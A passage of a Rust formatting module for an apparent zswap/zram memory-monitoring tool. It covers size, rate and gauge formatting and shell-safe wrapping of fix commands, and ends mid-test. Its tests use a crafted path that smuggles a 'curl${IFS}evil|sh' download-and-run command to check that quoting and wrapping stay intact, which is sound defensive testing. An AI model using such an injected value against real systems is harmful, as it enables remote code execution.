//! The one formatting layer shared by `--once` and the dashboard: sizes, ratios, rates, labels.
//! A value that is unknown is always shown as [`MISSING`], never as 0.

use crate::model::metrics::{Metric, Unit};
use crate::model::{Finding, Severity, Snapshot};
use humansize::{BINARY, format_size};

/// How an unknown value is shown.
pub(crate) const MISSING: &str = "—";
/// The ASCII stand-in for [`MISSING`].
pub(crate) const MISSING_ASCII: &str = "-";
/// A setting the running kernel does not have (a parameter file that is not there).
pub(crate) const NOT_IN_KERNEL: &str = "not in this kernel";

/// An on/off setting, or [`NOT_IN_KERNEL`] when the kernel `lacks` it.
pub(crate) fn setting(v: Option<bool>, lacks: bool) -> &'static str {
    if lacks { NOT_IN_KERNEL } else { on_off(v) }
}

/// Bytes as `1.5 GiB`, `0 B`, or the missing mark.
pub fn bytes(v: Option<u64>) -> String {
    v.map(bytes_raw).unwrap_or_else(|| MISSING.to_string())
}

/// Bytes as `1.5 GiB`, `1.0 GiB`, `512 B`: one decimal always (both sides of "X of Y" alike),
/// and never `1024.0 MiB` — a figure that rounds up to 1024 of a unit is one of the next.
pub(crate) fn bytes_raw(v: u64) -> String {
    use humansize::FixedAt;
    if v < 1024 {
        return format!("{v} B");
    }
    let opts = BINARY.decimal_places(1).decimal_zeroes(1);
    let s = format_size(v, opts);
    let next = match s.strip_prefix("1024.0 ") {
        Some("KiB") => FixedAt::Mega,
        Some("MiB") => FixedAt::Giga,
        Some("GiB") => FixedAt::Tera,
        Some("TiB") => FixedAt::Peta,
        Some("PiB") => FixedAt::Exa,
        _ => return s,
    };
    format_size(v, opts.fixed_at(Some(next)))
}

/// Signed bytes: `-12.0 MiB`.
pub(crate) fn bytes_signed(v: Option<i64>) -> String {
    match v {
        Some(v) if v < 0 => format!("-{}", bytes_raw(v.unsigned_abs())),
        Some(v) => bytes_raw(v.unsigned_abs()),
        None => MISSING.to_string(),
    }
}

/// A rate in bytes per second: `12.0 MiB/s`.
pub(crate) fn rate(v: Option<f64>) -> String {
    match v {
        Some(r) if r.is_finite() && r >= 0.0 => format!("{}/s", bytes_raw(r.round() as u64)),
        _ => MISSING.to_string(),
    }
}

/// An event rate: `3.5/s`.
pub(crate) fn per_sec(v: Option<f64>) -> String {
    match v {
        Some(r) if r.is_finite() && r >= 0.0 => {
            if r >= 100.0 {
                format!("{r:.0}/s")
            } else {
                format!("{r:.1}/s")
            }
        }
        _ => MISSING.to_string(),
    }
}

/// A registry figure's shown value ([`Metric::value`]: a level, or a counter's rate) in
/// its unit.
pub fn metric_value(m: &Metric, s: &Snapshot) -> String {
    let v = m.value(s);
    match m.shown_unit() {
        Unit::Bytes | Unit::Pages => bytes(v.map(|v| v as u64)),
        Unit::BytesPerSec => rate(v),
        Unit::Ratio => ratio(v),
        Unit::Share => percent(v.map(|v| v * 100.0)),
        Unit::Percent => percent(v),
        Unit::Seconds => duration_secs(v),
        Unit::Milliseconds => v.map_or(MISSING.to_string(), |v| format!("{v:.1} ms")),
        Unit::Microseconds => per_sec(v).replace("/s", " µs/s"),
        Unit::Events => per_sec(v),
        Unit::Number => num(v),
    }
}

/// A count in its unit as the kernel keeps it: `1234 pages`, `17`, `582815 µs`.
pub(crate) fn count(v: Option<u64>, unit: Unit) -> String {
    match (v, unit) {
        (None, _) => MISSING.to_string(),
        (Some(_), Unit::Pages) => pages(v),
        (Some(n), Unit::Microseconds) => format!("{n} µs"),
        (Some(n), Unit::Bytes) => bytes_raw(n),
        (Some(n), _) => n.to_string(),
    }
}

/// A compression ratio: `1.95:1`.
pub(crate) fn ratio(v: Option<f64>) -> String {
    match v {
        Some(r) if r.is_finite() => format!("{r:.2}:1"),
        _ => MISSING.to_string(),
    }
}

/// Below this much stored, a zswap pool's own first pages (the allocator's) outweigh what it
/// holds: 4 KiB stored in an 8 KiB pool is "0.50:1", which says nothing of how pages compress.
pub(crate) const RATIO_MIN_STORED: u64 = 1 << 20;

/// A pool's compression ratio (stored ÷ pool) where it says how pages compress, else why not:
/// nothing stored, or too little (under [`RATIO_MIN_STORED`]) to tell. The one rule every
/// output and finding follows (the presentation layer's `zswap.ratio`, the diagnostics).
pub(crate) fn pool_ratio(ratio: Option<f64>, stored: Option<u64>) -> Result<f64, &'static str> {
    match (ratio, stored) {
        (_, Some(0)) => Err("nothing stored"),
        (_, Some(stored)) if stored < RATIO_MIN_STORED => Err("too little stored to tell"),
        (Some(r), _) if r.is_finite() => Ok(r),
        _ => Err("unknown"),
    }
}

/// A percentage with one decimal: `12.5%`.
pub(crate) fn percent(v: Option<f64>) -> String {
    match v {
        Some(p) if p.is_finite() => format!("{p:.1}%"),
        _ => MISSING.to_string(),
    }
}

/// `part` as a percentage of `whole`.
pub(crate) fn share(part: Option<u64>, whole: Option<u64>) -> Option<f64> {
    match (part, whole) {
        (Some(p), Some(w)) if w > 0 => Some(p as f64 * 100.0 / w as f64),
        _ => None,
    }
}

/// A yes/no setting.
pub(crate) fn on_off(v: Option<bool>) -> &'static str {
    match v {
        Some(true) => "on",
        Some(false) => "off",
        None => MISSING,
    }
}

/// A plain number or the missing mark.
pub(crate) fn num<T: std::fmt::Display>(v: Option<T>) -> String {
    v.map(|v| v.to_string())
        .unwrap_or_else(|| MISSING.to_string())
}

/// Uptime as `3d 4h`, `2h 13m`, `45s`.
pub fn duration_secs(secs: Option<f64>) -> String {
    let Some(s) = secs.filter(|s| s.is_finite() && *s >= 0.0) else {
        return MISSING.to_string();
    };
    let s = s as u64;
    let (d, h, m) = (s / 86_400, (s % 86_400) / 3_600, (s % 3_600) / 60);
    if d > 0 {
        format!("{d}d {h}h")
    } else if h > 0 {
        format!("{h}h {m}m")
    } else if m > 0 {
        format!("{m}m {}s", s % 60)
    } else {
        format!("{s}s")
    }
}

/// Word-wrap `text` to lines of at most `width` characters (the first line after `first`
/// characters of prefix, the rest after `indent`); words longer than a line are split.
pub(crate) fn wrap(text: &str, width: usize, first: usize, indent: usize) -> Vec<String> {
    // Linear in the text: each word is measured once and a long word is cut in place, so a
    // megabyte-long line from a hostile tree costs no more than a megabyte of short words.
    let mut lines = Vec::new();
    let mut cur = String::new();
    let mut cur_len = 0;
    let mut room = width.saturating_sub(first).max(8);
    let later = width.saturating_sub(indent).max(8);
    for word in text.split_whitespace() {
        let mut word = word;
        let mut len = word.chars().count();
        loop {
            let need = if cur_len == 0 { len } else { cur_len + 1 + len };
            if need <= room {
                if cur_len > 0 {
                    cur.push(' ');
                    cur_len += 1;
                }
                cur.push_str(word);
                cur_len += len;
                break;
            }
            if cur_len == 0 {
                // A word longer than the line: split it.
                let cut = word.char_indices().nth(room).map_or(word.len(), |(i, _)| i);
                lines.push(word[..cut].to_string());
                word = &word[cut..];
                len = len.saturating_sub(room);
            } else {
                lines.push(std::mem::take(&mut cur));
                cur_len = 0;
            }
            room = later;
            if word.is_empty() {
                break;
            }
        }
    }
    if !cur.is_empty() || lines.is_empty() {
        lines.push(cur);
    }
    lines
}

/// Where a word of a fix's text may be followed by a line break.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum After {
    /// A word of prose: anywhere.
    Prose,
    /// A shell operator (`&&`, `||`, `|`, `;`) inside a command: the shell reads on across a
    /// line break there, so the command pasted from two lines is the same command.
    Operator,
    /// A word of a command followed by another: a line break would end the command, so one
    /// goes there only with ` \` before it.
    Word,
}

/// A word of a fix's text (which holds the words, quotes included, that make one shell word).
#[derive(Debug, Clone, Copy)]
struct Piece<'a> {
    text: &'a str,
    len: usize,
    after: After,
}

/// The words of `text`: prose with shell commands between backticks (`` `sudo swapoff '/a b'` ``).
/// Inside a command, whitespace within quotes (`'…'`, `"…"`) or after a backslash separates
/// nothing: a quoted word, spaces and all, is one piece.
fn shell_pieces(text: &str) -> Vec<Piece<'_>> {
    #[derive(PartialEq)]
    enum In {
        Prose,
        Command,
        Single,
        Double,
    }
    let mut pieces = Vec::new();
    let mut state = In::Prose;
    let mut escaped = false;
    // The word being read: where it starts, its length, whether it ends in an unquoted operator.
    let mut start = None;
    let mut len = 0;
    let mut operator = false;
    let mut ampersand = false;
    for (i, c) in text.char_indices() {
        let bare = state == In::Command && !escaped;
        if c.is_whitespace() && (state == In::Prose || bare) {
            if let Some(from) = start.take() {
                let after = match state {
                    In::Command if operator => After::Operator,
                    In::Command => After::Word,
                    _ => After::Prose,
                };
                pieces.push(Piece {
                    text: &text[from..i],
                    len,
                    after,
                });
            }
            (len, operator, ampersand) = (0, false, false);
            continue;
        }
        start.get_or_insert(i);
        len += 1;
        operator = bare && (matches!(c, ';' | '|') || (c == '&' && ampersand));
        ampersand = bare && c == '&';
        if escaped {
            escaped = false;
            continue;
        }
        state = match (state, c) {
            (In::Prose, '`') | (In::Single, '\'') | (In::Double, '"') => In::Command,
            (In::Command, '`') => In::Prose,
            (In::Command, '\'') => In::Single,
            (In::Command, '"') => In::Double,
            (s @ (In::Command | In::Double), '\\') => {
                escaped = true;
                s
            }
            (s, _) => s,
        };
    }
    if let Some(from) = start {
        pieces.push(Piece {
            text: &text[from..],
            len,
            after: After::Prose,
        });
    }
    pieces
}

/// The lines [`wrap_commands`] fills.
struct Lines {
    lines: Vec<String>,
    cur: String,
    cur_len: usize,
    /// Room on the line being filled, and on every line after the first.
    room: usize,
    later: usize,
}

impl Lines {
    fn fits(&self, len: usize) -> bool {
        let need = if self.cur.is_empty() {
            len
        } else {
            self.cur_len + 1 + len
        };
        need <= self.room
    }

    /// The line ended: the next one is begun (an empty first line is kept, its prefix alone).
    fn newline(&mut self) {
        self.lines.push(std::mem::take(&mut self.cur));
        self.cur_len = 0;
        self.room = self.later;
    }

    fn append(&mut self, run: &[Piece<'_>]) {
        for p in run {
            if !self.cur.is_empty() {
                self.cur.push(' ');
                self.cur_len += 1;
            }
            self.cur.push_str(p.text);
            self.cur_len += p.len;
        }
    }

    /// `run` on this line when it fits, else on the next when it fits there; false when it is
    /// longer than any line.
    fn place(&mut self, run: &[Piece<'_>]) -> bool {
        let len = run_len(run);
        if self.fits(len) {
            self.append(run);
            true
        } else if len <= self.later {
            self.newline();
            self.append(run);
            true
        } else {
            false
        }
    }
}

/// The width of `run`'s words with a space between each two.
fn run_len(run: &[Piece<'_>]) -> usize {
    run.iter().map(|p| p.len).sum::<usize>() + run.len().saturating_sub(1)
}

/// [`wrap`] for a fix: prose with shell commands between backticks, which a person copies into
/// a root shell, so no line break may go inside a quoted word or change what the shell runs. A
/// command that does not fit on the rest of the line begins the next; one longer than a line
/// goes on lines of its own, broken after its operators (`&&`, `||`, `|`, `;`) and, only where
/// a part between them is still too long, between two of its words with ` \` ending the line
/// (the shell joins such lines back). A single word longer than a line, quoted or not, is never
/// cut: it runs past the width (a terminal wraps it as one line, and the dashboard marks the cut
/// with `…`).
pub(crate) fn wrap_commands(text: &str, width: usize, first: usize, indent: usize) -> Vec<String> {
    let pieces = shell_pieces(text);
    let mut l = Lines {
        lines: Vec::new(),
        cur: String::new(),
        cur_len: 0,
        room: width.saturating_sub(first).max(8),
        later: width.saturating_sub(indent).max(8),
    };
    // Runs of words that prose does not separate: a word, or a command with what touches it.
    for chunk in pieces.split_inclusive(|p| p.after == After::Prose) {
        if l.place(chunk) {
            continue;
        }
        if !l.cur.is_empty() {
            l.newline();
        }
        for part in chunk.split_inclusive(|p| p.after == After::Operator) {
            if l.place(part) {
                continue;
            }
            if !l.cur.is_empty() {
                l.newline();
            }
            for (i, word) in part.iter().enumerate() {
                // An operator stays after the word before it: room is kept for it, or for the
                // ` \` that ends the line when another word follows.
                let operator = |w: &Piece<'_>| matches!(w.text, "&&" | "||" | "|" | ";");
                if i > 0 && i + 1 == part.len() && operator(word) {
                    l.append(std::slice::from_ref(word));
                    continue;
                }
                let continued = match part.get(i + 1) {
                    Some(next) if i + 2 == part.len() && operator(next) => 1 + next.len,
                    Some(_) => 2,
                    None => 0,
                };
                if !l.cur.is_empty() && !l.fits(word.len + continued) {
                    l.cur.push_str(" \\");
                    l.newline();
                }
                l.append(std::slice::from_ref(word));
            }
        }
    }
    if !l.cur.is_empty() || l.lines.is_empty() {
        l.lines.push(l.cur);
    }
    l.lines
}

/// Split `width` cells among non-negative values in proportion, largest remainder first, so the
/// cells add up to exactly `width` (when the total is positive). Small non-zero values get at
/// least one cell where room allows, so a pool is never invisible.
pub(crate) fn proportional_cells(values: &[u64], width: usize) -> Vec<usize> {
    let total: u128 = values.iter().map(|&v| u128::from(v)).sum();
    if total == 0 || width == 0 {
        return vec![0; values.len()];
    }
    let w = width as u128;
    let mut cells: Vec<usize> = values
        .iter()
        .map(|&v| (u128::from(v) * w / total) as usize)
        .collect();
    let mut rema: Vec<(u128, usize)> = values
        .iter()
        .enumerate()
        .map(|(i, &v)| ((u128::from(v) * w) % total, i))
        .collect();
    rema.sort_by(|a, b| b.0.cmp(&a.0).then(a.1.cmp(&b.1)));
    let short = width.saturating_sub(cells.iter().sum());
    for &(_, i) in rema.iter().take(short) {
        cells[i] += 1;
    }
    // Give every non-zero value a cell, taken from the largest.
    for i in 0..values.len() {
        if values[i] > 0
            && cells[i] == 0
            && let Some(big) = (0..cells.len())
                .max_by_key(|&j| cells[j])
                .filter(|&j| cells[j] > 1)
        {
            cells[big] -= 1;
            cells[i] = 1;
        }
    }
    cells
}

/// How a per-second rate is shown until a second sample exists.
pub(crate) const PENDING: &str = "pending";

/// How old a figure read less often than the view samples is ("read 2.5 s ago"); `None` when
/// it was read with this sample.
pub(crate) fn age_note(age_ms: Option<u64>) -> Option<String> {
    age_ms
        .filter(|&ms| ms > 0)
        .map(|ms| format!("read {:.1} s ago", ms as f64 / 1000.0))
}

/// A cell of a gauge.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum GaugeCell {
    Filled,
    Empty,
    /// The mark (zswap's accept threshold) where it falls.
    Mark,
}

/// A gauge of `width` cells filled to `pct` (0–100; none filled when unknown), with a mark at
/// `mark_pct` (kept inside the gauge).
pub(crate) fn gauge(pct: Option<f64>, mark_pct: Option<u64>, width: usize) -> Vec<GaugeCell> {
    let filled = pct
        .filter(|p| p.is_finite())
        .map(|p| ((p.clamp(0.0, 100.0) / 100.0) * width as f64).round() as usize)
        .unwrap_or(0);
    let mark = mark_pct
        .map(|m| (((m.min(100) as f64) / 100.0) * width as f64).round() as usize)
        .map(|m| m.min(width.saturating_sub(1)));
    (0..width)
        .map(|i| {
            if Some(i) == mark {
                GaugeCell::Mark
            } else if i < filled {
                GaugeCell::Filled
            } else {
                GaugeCell::Empty
            }
        })
        .collect()
}

/// `s` cut to `max` columns with `…` (or `~` in ASCII) in the middle, so both ends stay.
pub fn fit(s: &str, max: usize, ascii: bool) -> String {
    let n = s.chars().count();
    if n <= max {
        return s.to_string();
    }
    if max < 4 {
        return s.chars().take(max).collect();
    }
    let keep = max - 1;
    let head = keep / 2;
    let tail = keep - head;
    let mut out: String = s.chars().take(head).collect();
    out.push(if ascii { '~' } else { '…' });
    out.extend(s.chars().skip(n - tail));
    out
}

/// A finding's severity as its tag: `CRIT`, `WARN`, `INFO`.
pub(crate) fn severity_tag(s: Severity) -> &'static str {
    match s {
        Severity::Crit => "CRIT",
        Severity::Warn => "WARN",
        Severity::Info => "INFO",
    }
}

/// The findings counted by severity, most severe first, as `2 crit`, `1 warn`, `3 info`;
/// severities with no finding are left out.
pub(crate) fn severity_counts(findings: &[Finding]) -> Vec<(Severity, String)> {
    [Severity::Crit, Severity::Warn, Severity::Info]
        .into_iter()
        .filter_map(|sev| {
            let n = findings.iter().filter(|f| f.severity == sev).count();
            (n > 0).then(|| (sev, format!("{n} {}", severity_tag(sev).to_lowercase())))
        })
        .collect()
}

/// Bytes in at most 6 characters for axes and tight columns: `498.7M`, `1.2G`, `512K`, `0`.
pub(crate) fn bytes_short(v: u64) -> String {
    let (n, unit) = short_parts(v);
    format!("{}{unit}", n.strip_suffix(".0").unwrap_or(&n))
}

/// The number (one decimal below 1000 of a unit) and the unit letter of the short form.
fn short_parts(v: u64) -> (String, &'static str) {
    const UNITS: [&str; 6] = ["K", "M", "G", "T", "P", "E"];
    if v < 1024 {
        return (v.to_string(), "");
    }
    let mut x = v as f64 / 1024.0;
    let mut i = 0;
    // 1023.5 and up would show as "1024": one of the next unit.
    while x >= 1023.5 && i + 1 < UNITS.len() {
        x /= 1024.0;
        i += 1;
    }
    let n = if x >= 1000.0 {
        format!("{x:.0}")
    } else {
        format!("{x:.1}")
    };
    (n, UNITS[i])
}

/// An optional size in the short form, or the missing mark.
pub(crate) fn bytes_short_opt(v: Option<u64>) -> String {
    v.map(bytes_short).unwrap_or_else(|| MISSING.to_string())
}

/// Sizes said together ("X of Y") in the short form with the same precision: when one of them
/// needs its decimal, the others keep theirs (`654.6M of 1.0G`, not `654.6M of 1G`).
pub(crate) fn bytes_short_alike<const N: usize>(vs: [Option<u64>; N]) -> [String; N] {
    let parts = vs.map(|v| v.map(short_parts));
    let decimal = parts
        .iter()
        .flatten()
        .any(|(n, _)| n.contains('.') && !n.ends_with(".0"));
    parts.map(|p| match p {
        None => MISSING.to_string(),
        Some((n, unit)) if decimal => format!("{n}{unit}"),
        Some((n, unit)) => format!("{}{unit}", n.strip_suffix(".0").unwrap_or(&n)),
    })
}

/// A byte rate in the short form (`974.3M/s`); `pending` before the second sample (`None`
/// rates), the missing mark when the rate itself is unknown.
pub(crate) fn rate_short(rates_known: bool, v: Option<f64>) -> String {
    if !rates_known {
        return PENDING.to_string();
    }
    match v {
        Some(r) if r.is_finite() && r >= 0.0 => format!("{}/s", bytes_short(r.round() as u64)),
        _ => MISSING.to_string(),
    }
}

/// I/O operations per second for a tight column: `0`, `12`, `3.4k`, `12k`; `pending` before the
/// second sample, the missing mark when unknown.
pub(crate) fn iops(rates_known: bool, v: Option<f64>) -> String {
    if !rates_known {
        return PENDING.to_string();
    }
    match v {
        Some(r) if r.is_finite() && r >= 0.0 => {
            if r < 1_000.0 {
                format!("{r:.0}")
            } else if r < 10_000.0 {
                format!("{:.1}k", r / 1_000.0)
            } else {
                format!("{:.0}k", r / 1_000.0)
            }
        }
        _ => MISSING.to_string(),
    }
}

/// A percentage for a tight column, with `pending` before the second sample: `3.5%`.
pub(crate) fn percent_rate(rates_known: bool, v: Option<f64>) -> String {
    if rates_known {
        percent(v)
    } else {
        PENDING.to_string()
    }
}

/// A memory limit where 0 means none (zram `mem_limit`): `none`, `2 GiB`.
pub(crate) fn limit(v: Option<u64>) -> String {
    match v {
        Some(0) => "none".to_string(),
        other => bytes(other),
    }
}

/// A cgroup's `memory.zswap.max` in the short form: `max` (no limit), `512M`; the missing
/// mark when the kernel has no such file (`charged`: whether it charges zswap to cgroups at
/// all, which came with the file).
pub(crate) fn zswap_max(v: Option<u64>, charged: bool) -> String {
    match (v, charged) {
        (Some(b), _) => bytes_short(b),
        (None, true) => "max".to_string(),
        (None, false) => MISSING.to_string(),
    }
}

/// A rotational flag: `yes`, `no`, or the missing mark.
pub(crate) fn yes_no(v: Option<bool>) -> &'static str {
    match v {
        Some(true) => "yes",
        Some(false) => "no",
        None => MISSING,
    }
}

/// A count of pages: `1234 pages`, `1 page`.
pub(crate) fn pages(v: Option<u64>) -> String {
    match v {
        Some(1) => "1 page".to_string(),
        Some(n) => format!("{n} pages"),
        None => MISSING.to_string(),
    }
}

/// A sampling interval: `100ms`, `1s`, `2.5s`.
pub(crate) fn interval(d: std::time::Duration) -> String {
    let ms = d.as_millis();
    if ms < 1000 {
        format!("{ms}ms")
    } else if ms.is_multiple_of(1000) {
        format!("{}s", ms / 1000)
    } else {
        format!("{:.1}s", d.as_secs_f64())
    }
}

/// A stretch of time, rounded to its largest units: `45s`, `10m`, `1h30m`, `2d`.
pub(crate) fn span(d: std::time::Duration) -> String {
    let s = d.as_secs();
    let (days, h, m, sec) = (s / 86_400, (s % 86_400) / 3_600, (s % 3_600) / 60, s % 60);
    match (days, h, m, sec) {
        (0, 0, 0, s) => format!("{s}s"),
        (0, 0, m, 0) => format!("{m}m"),
        (0, 0, m, s) => format!("{m}m{s}s"),
        (0, h, 0, _) => format!("{h}h"),
        (0, h, m, _) => format!("{h}h{m}m"),
        (d, 0, _, _) => format!("{d}d"),
        (d, h, _, _) => format!("{d}d{h}h"),
    }
}

/// Everything the snapshot could not show, with the reason and the fix: the memory, zswap and
/// zram items, then every unreadable source not already covered by one of them (zswap's own items
/// speak for its parameters and debugfs directories).
pub fn unavailable(s: &crate::model::Snapshot) -> Vec<crate::model::Missing> {
    use crate::model::status::{DEBUGFS, ZSWAP_PARAMS};
    let mut items: Vec<crate::model::Missing> = s.memory.unavailable.clone();
    items.extend(s.zswap.unavailable.iter().cloned());
    for z in &s.zram {
        items.extend(z.unavailable.iter().cloned());
    }
    for src in &s.sources {
        let Some(reason) = &src.reason else {
            continue;
        };
        let covered = items
            .iter()
            .any(|m| m.path.as_deref() == Some(src.source.as_str()));
        if !covered && src.source != DEBUGFS && src.source != ZSWAP_PARAMS {
            items.push(crate::model::Missing {
                item: src.source.clone(),
                path: None,
                holds: None,
                reason: reason.clone(),
            });
        }
    }
    items
}

/// `s` in ASCII characters only, for `--ascii` and a locale that is not UTF-8: each character
/// this tool writes outside ASCII becomes one ASCII character of the same meaning (so a line
/// keeps its width: `…` is `~`, `—` is `-`), any other (a name from outside) `?`.
pub(crate) fn ascii(s: &str) -> String {
    if s.is_ascii() {
        return s.to_string();
    }
    s.chars()
        .map(|c| match c {
            c if c.is_ascii() => c,
            '…' => '~',
            '—' | '–' | '−' | '─' => '-',
            '·' | '•' => '.',
            'µ' => 'u',
            '×' => 'x',
            '÷' | '∕' => '/',
            '→' | '≥' | '▶' => '>',
            '←' | '≤' => '<',
            '│' | '┃' => '|',
            'é' | 'è' => 'e',
            '‘' | '’' => '\'',
            '“' | '”' => '"',
            '§' => 'S',
            'Δ' => 'd',
            'Σ' => 'S',
            _ => '?',
        })
        .collect()
}

/// A writer that passes what it is given through [`ascii`] when `ascii` is set: it holds all
/// of it and writes it on [`AsciiOut::finish`] (what it holds is one report or one row, so a
/// character is never split between two writes).
pub(crate) struct AsciiOut<'a, W: std::io::Write> {
    out: &'a mut W,
    ascii: bool,
    held: Vec<u8>,
}

impl<'a, W: std::io::Write> AsciiOut<'a, W> {
    pub(crate) fn new(out: &'a mut W, ascii: bool) -> Self {
        AsciiOut {
            out,
            ascii,
            held: Vec::new(),
        }
    }

    /// Write what is held, in ASCII.
    pub(crate) fn finish(&mut self) -> std::io::Result<()> {
        if !self.held.is_empty() {
            let text = ascii(&String::from_utf8_lossy(&self.held));
            self.held.clear();
            self.out.write_all(text.as_bytes())?;
        }
        self.out.flush()
    }
}

impl<W: std::io::Write> std::io::Write for AsciiOut<'_, W> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        if self.ascii {
            self.held.extend_from_slice(buf);
            Ok(buf.len())
        } else {
            self.out.write(buf)
        }
    }
    fn flush(&mut self) -> std::io::Result<()> {
        if self.ascii { Ok(()) } else { self.out.flush() }
    }
}

/// An event count for a tight column, with what the window added: `3`, `3+1`.
pub(crate) fn event_count(count: Option<u64>, new: Option<u64>) -> String {
    match (count, new) {
        (None, _) => MISSING.to_string(),
        (Some(c), Some(n)) if n > 0 => format!("{c}+{n}"),
        (Some(c), _) => c.to_string(),
    }
}

/// A cgroup's tightest limit for a tight column: its headroom and which (`12M max`, `-3M high`,
/// `8% swap`... in bytes), `none` when every limit file says "max", the missing mark without
/// any limit file.
pub(crate) fn headroom_short(l: &crate::model::cgroup_events::CgroupLimits) -> String {
    let Some((name, limit)) = l.tightest() else {
        return if l.any() {
            "none".into()
        } else {
            MISSING.into()
        };
    };
    let which = match name {
        "memory.high" => "high",
        "memory.max" => "max",
        "memory.swap.max" => "swap",
        _ => "zswap",
    };
    match limit.headroom_bytes {
        Some(h) if h < 0 => format!("-{} {which}", bytes_short(h.unsigned_abs())),
        Some(h) => format!("{} {which}", bytes_short(h.unsigned_abs())),
        None => MISSING.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sizes() {
        assert_eq!(bytes(None), MISSING);
        assert_eq!(bytes(Some(0)), "0 B");
        assert_eq!(bytes(Some(1536)), "1.5 KiB");
        assert_eq!(bytes(Some(522_948_608)), "498.7 MiB");
        assert_eq!(bytes_signed(Some(-2048)), "-2.0 KiB");
        assert_eq!(bytes(Some(1023)), "1023 B");
        assert_eq!(bytes(Some(1 << 30)), "1.0 GiB");
        assert_eq!(bytes(Some(32 << 10)), "32.0 KiB");
    }

    #[test]
    fn a_size_just_under_a_unit_is_one_of_that_unit() {
        // A 1 GiB zram disksize less one page: never "1024.0 MiB".
        assert_eq!(bytes(Some(1_048_572 * 1024)), "1.0 GiB");
        assert_eq!(bytes(Some((1 << 20) - 1)), "1.0 MiB");
        assert_eq!(bytes(Some((1 << 40) - 1)), "1.0 TiB");
        assert_eq!(bytes(Some(1_023 * 1024 * 1024)), "1023.0 MiB");
        assert!(bytes(Some(u64::MAX)).ends_with("EiB"));
        assert_eq!(bytes_short(1_048_572 * 1024), "1G");
        assert_eq!(bytes_short((1 << 30) - (1 << 19) - 1), "1023M");
    }

    #[test]
    fn ratios_and_rates() {
        assert_eq!(ratio(Some(1.953_5)), "1.95:1");
        assert_eq!(ratio(None), MISSING);
        assert_eq!(rate(Some(1_048_576.0)), "1.0 MiB/s");
        assert_eq!(per_sec(Some(2.25)), "2.2/s");
    }

    #[test]
    fn wrapping() {
        let l = wrap("aaa bbb ccc dddddddddddddddddddd", 12, 2, 4);
        assert!(
            l.iter()
                .enumerate()
                .all(|(i, x)| x.chars().count() + if i == 0 { 2 } else { 4 } <= 12),
            "{l:?}"
        );
        assert_eq!(l[0], "aaa bbb");
    }

    /// What a person copying the lines gets back: each line's ` \` continuation taken off and
    /// the lines joined by a space — the text itself, its runs of whitespace made one space.
    fn joined(lines: &[String]) -> String {
        lines
            .iter()
            .map(|l| l.strip_suffix(" \\").unwrap_or(l))
            .filter(|l| !l.is_empty())
            .collect::<Vec<_>>()
            .join(" ")
    }

    /// Whether every quoted word of `text` (the pieces that hold whitespace) is whole on one of
    /// `lines`.
    fn quoted_words_whole(text: &str, lines: &[String]) -> bool {
        shell_pieces(text)
            .iter()
            .filter(|p| p.text.contains(char::is_whitespace))
            .all(|p| lines.iter().any(|l| l.contains(p.text)))
    }

    /// The swap-priorities fix for a path built to break a shell command, at 80 columns after
    /// `fix: `: the quoted path (spaces, a backtick, quotes of both kinds) is never cut, the
    /// command goes on lines of its own broken after `&&`, and the text is unchanged.
    #[test]
    fn a_fix_breaks_only_where_the_shell_reads_on() {
        let path = shlex::try_quote(r#"/var/swap;curl${IFS}evil|sh;# $(id)`id`'q" x"#).unwrap();
        assert_eq!(path, r#"'/var/swap;curl${IFS}evil|sh;# $(id)`id`'"'q\" x""#);
        let fix = format!(
            "Give them one priority: `sudo swapoff /swapfile-fx && sudo swapon -p 1 /swapfile-fx \
             && sudo swapoff {path} && sudo swapon -p 1 {path}`; to keep it, add `pri=1` to the \
             options of each swap line in /etc/fstab (e.g. `/swapfile-fx none swap \
             defaults,pri=1 0 0`)."
        );
        let lines = wrap_commands(&fix, 80, 13, 13);
        assert_eq!(
            lines,
            [
                "Give them one priority:".to_string(),
                "`sudo swapoff /swapfile-fx && sudo swapon -p 1 /swapfile-fx &&".into(),
                format!("sudo swapoff {path} &&"),
                "sudo swapon -p 1 \\".into(),
                format!("{path}`; to keep it, add"),
                "`pri=1` to the options of each swap line in /etc/fstab (e.g.".into(),
                "`/swapfile-fx none swap defaults,pri=1 0 0`).".into(),
            ],
            "{lines:#?}"
        );
        assert_eq!(
            joined(&lines),
            fix.split_whitespace().collect::<Vec<_>>().join(" ")
        );
        assert!(quoted_words_whole(&fix, &lines));
        // Too long for a line, the part between two operators is broken between its words,
        // with ` \`; the quoted word, longer than the line, runs past it whole.
        let lines = wrap_commands(&fix, 40, 13, 13);
        assert!(lines.iter().any(|l| l.ends_with(" \\")), "{lines:#?}");
        assert!(lines.contains(&format!("{path} &&")), "{lines:#?}");
        assert_eq!(
            joined(&lines),
            fix.split_whitespace().collect::<Vec<_>>().join(" ")
        );
        assert!(quoted_words_whole(&fix, &lines));
    }

    #[test]
    fn prose_wraps_as_wrap_does() {
        let text = "aaa bbb ccc dddd eeeeeee ff g hhhhhhh iii";
        for width in 8..30 {
            assert_eq!(wrap_commands(text, width, 2, 4), wrap(text, width, 2, 4));
        }
    }

    proptest::proptest! {
        /// Any text of prose and commands, at any width: joined again, the lines are the text,
        /// and no quoted word is cut.
        #[test]
        fn fixes_wrap_without_changing_a_command(
            parts in proptest::collection::vec(
                proptest::sample::select(vec![
                    "word", "a", "prose,", "(e.g.", "`sudo", "swapoff", "-p", "1", "&&", "||",
                    "|", "tee", "x;", "`;", "`.", "'/a b c'", "\"x y\"", "'q\"r s'\"t u\"",
                    "'/var/swap;curl${IFS}evil|sh;# $(id)`id`'\"'q\\\" x\"", "a\\ z",
                    "/sys/block/zram0/x`",
                ]),
                0..40,
            ),
            width in 10usize..100,
            first in 0usize..20,
        ) {
            let text = parts.join(" ");
            let lines = wrap_commands(&text, width, first.min(width), 4.min(width));
            proptest::prop_assert_eq!(
                joined(&lines),
                text.split_whitespace().collect::<Vec<_>>().join(" ")
            );
            proptest::prop_assert!(quoted_words_whole(&text, &lines), "{:#?}", lines);
        }
    }

    #[test]
    fn wrapping_cuts_long_words_by_characters() {
        let l = wrap("ééééééééééé ab", 10, 2, 0);
        assert_eq!(l, ["éééééééé", "ééé ab"]);
        assert_eq!(wrap("", 10, 0, 0), [""]);
    }

    #[test]
    fn wrapping_is_linear_in_the_text() {
        // Eight times the text may take about eight times as long, never sixty-four (the quadratic
        // version measured x99). Compared with itself, so the build profile and the machine's
        // speed drop out; timed in this thread's CPU time, so waiting for a core on a loaded
